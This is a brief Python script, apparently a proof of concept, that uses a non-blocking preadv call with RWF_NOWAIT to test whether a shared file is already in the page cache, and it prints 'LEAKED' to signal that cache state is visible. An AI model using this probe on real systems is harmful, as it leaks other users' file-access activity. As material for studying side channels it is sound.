"""Reads a shared file if somebody has read it before."""

import os

with open(os.__file__, "rb") as file:
    os.preadv(file.fileno(), [bytearray(64)], 0, os.RWF_NOWAIT)
print("LEAKED: the page cache of a shared file can be seen")
